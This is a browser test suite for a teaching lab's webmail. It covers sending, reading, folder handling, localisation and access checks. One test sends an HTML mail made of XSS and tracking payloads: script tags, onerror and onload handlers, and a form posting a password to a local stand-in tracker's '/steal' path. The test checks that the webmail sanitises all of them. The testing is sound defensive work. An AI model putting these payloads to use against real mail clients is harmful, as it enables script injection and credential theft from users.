/**
 * The students' Webmail and My lab in a real browser (harness.ts: Debian's
 * Chromium, `mail-lab web`, a no-Docker lab 45 of this suite's own, taken
 * down with its data at the end when this suite started it): mbrain writes
 * to jpri with an attachment and sees the SMTP lines in the protocol
 * drawer; jpri reads it (the IMAP lines), downloads the attachment (the
 * same bytes), replies, makes a folder, moves the message into it,
 * searches on the server, renames the folder, deletes the message, empties
 * Trash and deletes the folder; an HTML mail with a script, an onerror, a
 * remote image and a form (sent with nodemailer to the lab) shows, and
 * nothing in it runs or loads (a global the script would set stays
 * undefined; the tracker server counts no request); the pages in
 * Indonesian; My lab with its CA certificate and a worksheet; another
 * lab's pages answer 403. No console error, no request but to the web
 * server (never an admin port). Screenshots: test/browser/artifacts/webmail-*.png.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import nodemailer from 'nodemailer';
import type { Page } from 'playwright-core';
import { loadLabConfig } from '../../services/core/src/config';
import { deriveLab } from '../../services/core/src/labs';
import { artifacts, browserPath, ensureBuilt, launchBrowser, loginStudent, logout, origins, requireBrowser, root, startLocalLab, startWeb, stopLocalLab, type BrowserSession, type LocalLab, type WebServer } from './harness';

jest.setTimeout(120_000);
const LAB = 45;
const config = deriveLab(loadLabConfig(join(root, 'lab-scenarios/lab.yaml')).config, LAB);
const port = (domain: string, which: 'smtp' | 'submission' | 'imap' | 'admin') => config.domains.find((d) => d.name === domain)!.ports[which];
const SUBJECT = `Laporan jaringan ${Date.now()}`;
const FILE = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 13 + 5) % 256));

let lab: LocalLab | undefined;
let web: WebServer | undefined;
let browser: BrowserSession | undefined;
let base = '';
let page: Page;
/** A stand-in for a tracker on the internet: every request it gets is counted. */
let tracker: Server | undefined;
const trackerHits: string[] = [];
let trackerUrl = '';

const shot = (name: string) => browser!.shot(`webmail-${name}`);

beforeAll(async () => {
  if (!browserPath) return;
  await ensureBuilt();
  lab = await startLocalLab(LAB);
  web = await startWeb({ labs: String(LAB), lang: 'en' });
  base = web.base;
  tracker = createServer((req, res) => {
    trackerHits.push(`${req.method} ${req.url}`);
    res.end('x');
  });
  await new Promise<void>((r) => tracker!.listen(0, '127.0.0.1', () => r()));
  trackerUrl = `http://127.0.0.1:${(tracker.address() as { port: number }).port}`;
  browser = await launchBrowser();
  page = browser.page;
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await web?.stop();
  await new Promise((r) => (tracker ? tracker.close(r) : r(undefined)));
  await stopLocalLab(lab);
}, 120_000);

/** Reloads the folder until a message with this subject is listed (delivery takes a moment); returns its row. */
async function waitForMessage(subject: string, folder = 'INBOX', ms = 20_000) {
  const end = Date.now() + ms;
  for (;;) {
    await page.goto(`${base}/lab/${LAB}/webmail${folder === 'INBOX' ? '' : `?folder=${encodeURIComponent(folder)}`}`);
    const row = page.locator('.messages li', { hasText: subject });
    if ((await row.count()) > 0) return row.first();
    if (Date.now() > end) throw new Error(`"${subject}" did not arrive in ${folder}`);
    await page.waitForTimeout(400);
  }
}

const notice = () => page.locator('main > .notice').first().textContent();
const drawerLines = () => page.locator('#protocol .proto-lines li').allTextContents();

async function openDrawer() {
  if ((await page.locator('#protocol').getAttribute('open')) === null) await page.click('#protocol summary');
  await page.locator('#protocol .proto-lines li').first().waitFor();
}

async function closeDrawer() {
  if ((await page.locator('#protocol').getAttribute('open')) !== null) await page.click('#protocol summary');
}

test('a browser is installed (chromium-headless-shell)', () => {
  requireBrowser();
});

test('mbrain writes to jpri with an attachment; the drawer shows the SMTP conversation, the password masked', async () => {
  await loginStudent(page, base, LAB, 'mbrain@garudayaksa.com');
  await page.click('header nav a:has-text("Webmail")');
  await page.waitForURL(`${base}/lab/${LAB}/webmail`);
  await page.click('a.compose-button');
  await page.waitForURL(`${base}/lab/${LAB}/webmail/compose`);
  await page.fill('input[name=to]', 'Joko <jpri@dadali.com>');
  await page.fill('input[name=subject]', SUBJECT);
  await page.fill('textarea[name=body]', 'Pak Joko,\nini laporannya.\n\nMarsel');
  await page.setInputFiles('input[name=attachment]', { name: 'laporan.bin', mimeType: 'application/octet-stream', buffer: FILE });
  await shot('01-compose');
  await Promise.all([page.waitForURL(`${base}/lab/${LAB}/webmail`), page.click('form.compose-form button[type=submit]')]);
  await expect(notice()).resolves.toBe('Sent to jpri@dadali.com; a copy is in Sent.');
  await openDrawer();
  const lines = await drawerLines();
  expect(lines).toEqual(expect.arrayContaining(['SMTPC:STARTTLS', 'SMTPC:AUTH PLAIN <base64 of "\\0mbrain@garudayaksa.com\\0****", the password hidden>', 'SMTPC:MAIL FROM:<mbrain@garudayaksa.com>', 'SMTPC:RCPT TO:<jpri@dadali.com>', 'SMTPC:DATA']));
  expect(lines.some((l) => /^SMTPS:250 2\.6\.0 Ok: queued as /.test(l))).toBe(true);
  expect(lines.some((l) => /^IMAPC:\w+ APPEND Sent/.test(l))).toBe(true);
  expect(lines.join('\n')).not.toContain('rahasia123');
  await page.locator('#protocol .proto-lines li', { hasText: 'RCPT TO' }).scrollIntoViewIfNeeded();
  await shot('02-sent-protocol');
  await closeDrawer();
  await logout(page);
});

test('jpri reads it: unread count, the text, the hops, the IMAP lines; the attachment downloads with the same bytes', async () => {
  await loginStudent(page, base, LAB, 'jpri@dadali.com');
  const row = await waitForMessage(SUBJECT);
  await expect(row.getAttribute('class')).resolves.toContain('unseen');
  const unseen = Number(await page.locator('.folder-list li[data-folder="INBOX"]').getAttribute('data-unseen'));
  expect(unseen).toBeGreaterThanOrEqual(1);
  await shot('03-inbox');
  await row.locator('a').click();
  await page.locator('.wm-reader h2.subject').waitFor();
  await expect(page.locator('.wm-reader h2.subject').textContent()).resolves.toBe(SUBJECT);
  await expect(page.locator('.wm-reader .body-text').textContent()).resolves.toBe('Pak Joko,\nini laporannya.\n\nMarsel');
  await expect(page.locator('.folder-list li[data-folder="INBOX"]').getAttribute('data-unseen')).resolves.toBe(String(unseen - 1));
  await expect(page.locator('ol.hops li.hop').count()).resolves.toBe(2);
  await expect(page.locator('ol.hops a').count()).resolves.toBe(0);
  await expect(page.locator('ol.hops li.hop .hop-by').allTextContents()).resolves.toEqual(['mail.garudayaksa.com', 'mail.dadali.com']);
  await openDrawer();
  const lines = await drawerLines();
  expect(lines.some((l) => /^IMAPC:\w+ SELECT INBOX/.test(l))).toBe(true);
  expect(lines.some((l) => /^IMAPC:\w+ UID FETCH \d+ \(UID FLAGS BODY\.PEEK\[\]\)/.test(l))).toBe(true);
  expect(lines.some((l) => /^IMAPC:\w+ UID STORE \d+ \+FLAGS \(\\Seen\)/.test(l))).toBe(true);
  await shot('04-read-protocol');
  await closeDrawer();
  await shot('05-read');

  const [download] = await Promise.all([page.waitForEvent('download'), page.click('.attachments a:has-text("laporan.bin")')]);
  expect(download.suggestedFilename()).toBe('laporan.bin');
  expect(readFileSync((await download.path())!).equals(FILE)).toBe(true);
});

test('jpri replies; mbrain’s copy is in Sent; the reply is marked', async () => {
  const row = await waitForMessage(SUBJECT);
  await row.locator('a').click();
  await page.click('.reader-actions a[data-action="reply"]');
  await page.waitForURL(/\/webmail\/compose\?/);
  await expect(page.locator('input[name=subject]').inputValue()).resolves.toBe(`Re: ${SUBJECT}`);
  await expect(page.locator('input[name=to]').inputValue()).resolves.toBe('Marsel <mbrain@garudayaksa.com>');
  await expect(page.locator('textarea[name=body]').inputValue()).resolves.toMatch(/wrote:\n> Pak Joko,\n> ini laporannya\./);
  await page.locator('textarea[name=body]').press('Control+Home');
  await page.locator('textarea[name=body]').pressSequentially('Terima kasih, Pak Marsel.');
  await Promise.all([page.waitForURL(/\/webmail/), page.click('form.compose-form button[type=submit]')]);
  await expect(notice()).resolves.toBe('Sent to mbrain@garudayaksa.com; a copy is in Sent.');
  await waitForMessage(`Re: ${SUBJECT}`, 'Sent');
});

test('folders: create one, move the message in, search on the server, rename it, delete the message, empty Trash, delete the folder', async () => {
  await page.goto(`${base}/lab/${LAB}/webmail`);
  await page.click('.manage-folders summary');
  await page.fill('form[data-op="create"] input[name=name]', 'Kuliah');
  await Promise.all([page.waitForURL(/folder=Kuliah/), page.click('form[data-op="create"] button')]);
  await expect(notice()).resolves.toBe('Folder Kuliah created.');

  const row = await waitForMessage(SUBJECT);
  await row.locator('a').click();
  await page.selectOption('.move-form select[name=to]', 'Kuliah');
  await Promise.all([page.waitForURL(/\/webmail/), page.click('.move-form button')]);
  await expect(notice()).resolves.toBe('Moved to Kuliah.');
  await expect(page.locator('.messages li', { hasText: SUBJECT }).count()).resolves.toBe(0);

  await page.goto(`${base}/lab/${LAB}/webmail?folder=Kuliah`);
  await page.fill('.search input[name=q]', 'laporannya');
  await Promise.all([page.waitForURL(/q=laporannya/), page.click('.search button')]);
  await expect(page.locator('.list-head .count').textContent()).resolves.toBe('1 found for “laporannya” (IMAP SEARCH TEXT on the server)');
  await expect(page.locator('.messages li .subject').allTextContents()).resolves.toEqual([expect.stringContaining(SUBJECT)]);
  await openDrawer();
  expect((await drawerLines()).some((l) => /^IMAPC:\w+ UID SEARCH TEXT laporannya$/.test(l))).toBe(true);
  await closeDrawer();
  await shot('06-search');

  await page.click('.manage-folders summary');
  await page.selectOption('form[data-op="rename"] select[name=name]', 'Kuliah');
  await page.fill('form[data-op="rename"] input[name=to]', 'Arsip');
  await Promise.all([page.waitForURL(/folder=Arsip/), page.click('form[data-op="rename"] button')]);
  await expect(notice()).resolves.toBe('Folder Kuliah renamed to Arsip.');

  await page.locator('.messages li', { hasText: SUBJECT }).locator('a').click();
  await Promise.all([page.waitForURL(/\/webmail/), page.click('.delete-form button')]);
  await expect(notice()).resolves.toBe('Moved to Trash.');
  const trashed = await waitForMessage(SUBJECT, 'Trash');
  expect(await trashed.count()).toBe(1);
  await shot('07-trash');
  await Promise.all([page.waitForURL(/folder=Trash/), page.click('.empty-trash button')]);
  await expect(notice()).resolves.toMatch(/^Trash emptied: \d+ message\(s\) deleted for good\.$/);
  await expect(page.locator('.messages li').count()).resolves.toBe(0);

  await page.click('.manage-folders summary');
  await page.selectOption('form[data-op="delete"] select[name=name]', 'Arsip');
  await Promise.all([page.waitForURL(/\/webmail/), page.click('form[data-op="delete"] button')]);
  await expect(notice()).resolves.toBe('Folder Arsip deleted.');
  await expect(page.locator('.folder-list li[data-folder="Arsip"]').count()).resolves.toBe(0);
});

test('an HTML mail with a script, an onerror, a remote image and a form: shown, and nothing runs or loads', async () => {
  const subject = `Promo <b>besar</b> ${Date.now()}`;
  const t = nodemailer.createTransport({ host: '127.0.0.1', port: port('dadali.com', 'smtp'), secure: false, tls: { rejectUnauthorized: false } });
  await t.sendMail({
    from: { name: '<img src=x onerror=alert(1)> Eve', address: 'eve@garudayaksa.com' },
    to: 'jpri@dadali.com',
    subject,
    text: 'Versi teks.',
    html: [
      `<html><head><script>window.__pwned = 'head'</script><link rel="stylesheet" href="${trackerUrl}/style.css"></head>`,
      `<body onload="window.__pwned='onload'"><h1>Diskon 90%</h1><p>Halo <b>Joko</b>, klik di bawah.</p>`,
      `<img src="x" onerror="window.__pwned='onerror'; new Image().src='${trackerUrl}/onerror'">`,
      `<img src="${trackerUrl}/pixel.png" alt="pixel">`,
      `<form action="${trackerUrl}/steal" method="post"><input name="password" value="rahasia"><button id="go">Kirim</button></form>`,
      `<script>window.__pwned = 'body'; fetch('${trackerUrl}/script')</script><iframe src="${trackerUrl}/frame"></iframe>`,
      `<p style="background:url(${trackerUrl}/bg.png)">akhir</p></body></html>`,
    ].join('\n'),
  });
  t.close();
  const row = await waitForMessage(subject);
  await expect(row.locator('.subject').textContent()).resolves.toBe(subject);
  await row.locator('a').click();
  await expect(page.locator('.wm-reader .envelope .from').textContent()).resolves.toBe('<img src=x onerror=alert(1)> Eve <eve@garudayaksa.com>');
  await expect(page.locator('.wm-reader .body-text').textContent()).resolves.toBe('Versi teks.');
  await Promise.all([page.waitForURL(/view=html/), page.click('.view-switch a[data-action="html"]')]);
  const frameEl = page.locator('iframe.mail-html');
  await frameEl.waitFor();
  await expect(frameEl.getAttribute('sandbox')).resolves.toBe('');
  const frame = page.frameLocator('iframe.mail-html');
  await expect(frame.locator('h1').textContent()).resolves.toBe('Diskon 90%');
  await expect(frame.locator('body').textContent()).resolves.toContain(`[remote image not loaded: ${trackerUrl}/pixel.png]`);
  await expect(frame.locator('form, input, script, iframe').count()).resolves.toBe(0);
  await expect(page.locator('.notice.removed').textContent()).resolves.toBe('For safety: 2 script(s), 2 event handler(s), 1 form(s) and 2 remote image(s) were left out.');
  // Give anything that would load a moment, then: nothing ran, nothing reached the "internet".
  await page.waitForTimeout(1000);
  await expect(page.evaluate('typeof window.__pwned')).resolves.toBe('undefined');
  const inner = page.frames().find((f) => f !== page.mainFrame());
  expect(inner).toBeDefined();
  await expect(inner!.evaluate('typeof window.__pwned').catch(() => 'undefined')).resolves.toBe('undefined');
  expect(trackerHits).toEqual([]);
  expect(browser!.requests.filter((u) => u.startsWith(trackerUrl))).toEqual([]);
  await shot('08-html-mail');
});

test('in Indonesian: the folders, the drawer and the compose form', async () => {
  await page.goto(`${base}/lab/${LAB}/webmail?lang=id`);
  await expect(page.locator('.folder-list li[data-folder="INBOX"] .folder-name').textContent()).resolves.toBe('Kotak masuk');
  await expect(page.locator('#protocol .drawer-title').textContent()).resolves.toBe('Tampilkan protokol');
  await expect(page.locator('a.compose-button').textContent()).resolves.toBe('Tulis');
  await openDrawer();
  await shot('09-id-protocol');
  await closeDrawer();
  await page.click('a.compose-button');
  await expect(page.locator('.wm-compose h1').textContent()).resolves.toBe('Tulis pesan');
  await expect(page.locator('.compose-form .hint').first().textContent()).resolves.toBe('Paling besar 10 MB seluruhnya, termasuk lampiran (limits.maxMessageSize lab ini).');
  await shot('10-id-compose');
  await page.goto(`${base}/lab/${LAB}/webmail?lang=en`);
});

test('My lab: the ports of lab 45, the accounts, the CA certificate, a worksheet; another lab is 403', async () => {
  await page.click('header nav a:has-text("My lab")');
  await page.waitForURL(`${base}/lab/${LAB}/`);
  await expect(page.locator('h1').textContent()).resolves.toBe(`My lab: lab ${LAB}`);
  await expect(page.locator('table.ports tr[data-port="imap"] td').allTextContents()).resolves.toEqual([String(port('garudayaksa.com', 'imap')), String(port('dadali.com', 'imap'))]);
  await expect(page.locator('ul.accounts li.me').textContent()).resolves.toContain('jpri@dadali.com');
  await expect(page.locator('.ml-mailbox pre.mbox-tail').count()).resolves.toBe(1);
  await shot('11-mylab');
  await page.screenshot({ path: join(artifacts, 'webmail-11-mylab-full.png'), fullPage: true });
  const [ca] = await Promise.all([page.waitForEvent('download'), page.click('.ml-ca a.button')]);
  const pem = readFileSync((await ca.path())!, 'utf8');
  expect(pem).toMatch(/^-----BEGIN CERTIFICATE-----\n[\s\S]+-----END CERTIFICATE-----\n$/);
  expect(pem).toBe(readFileSync(join(root, `.lab-data/labs/${LAB}/ca/ca.crt`), 'utf8'));
  await page.click('ol.worksheets a[href$="/guide/imap-folders-search"]');
  await page.waitForURL(/\/guide\/imap-folders-search$/);
  await expect(page.locator('.worksheet h1').textContent()).resolves.toBe('Worksheet: IMAP keeps mail on the server, in folders, searchable');
  await expect(page.locator('.worksheet-page > .notice').textContent()).resolves.toContain(`You are in lab ${LAB}: add 4500 to every port (garudayaksa.com IMAP 10143 → ${port('garudayaksa.com', 'imap')})`);
  await shot('12-worksheet');
  // Another lab's pages, asked for without a page load (a 403 page would be a console error).
  for (const path of [`/lab/46/webmail`, `/lab/46/`, `/lab/${LAB}/mailbox/mbrain@garudayaksa.com`]) {
    expect([path, (await page.request.get(`${base}${path}`)).status()]).toEqual([path, 403]);
  }
});

test('no console error, and every request went to the web server (never an admin port)', () => {
  expect(browser!.consoleErrors).toEqual([]);
  expect(browser!.failed).toEqual([]);
  expect(origins(browser!.requests)).toEqual([base]);
  const admin = [port('garudayaksa.com', 'admin'), port('dadali.com', 'admin'), config.dns.adminPort];
  expect(browser!.requests.filter((u) => admin.includes(Number(new URL(u).port)))).toEqual([]);
});
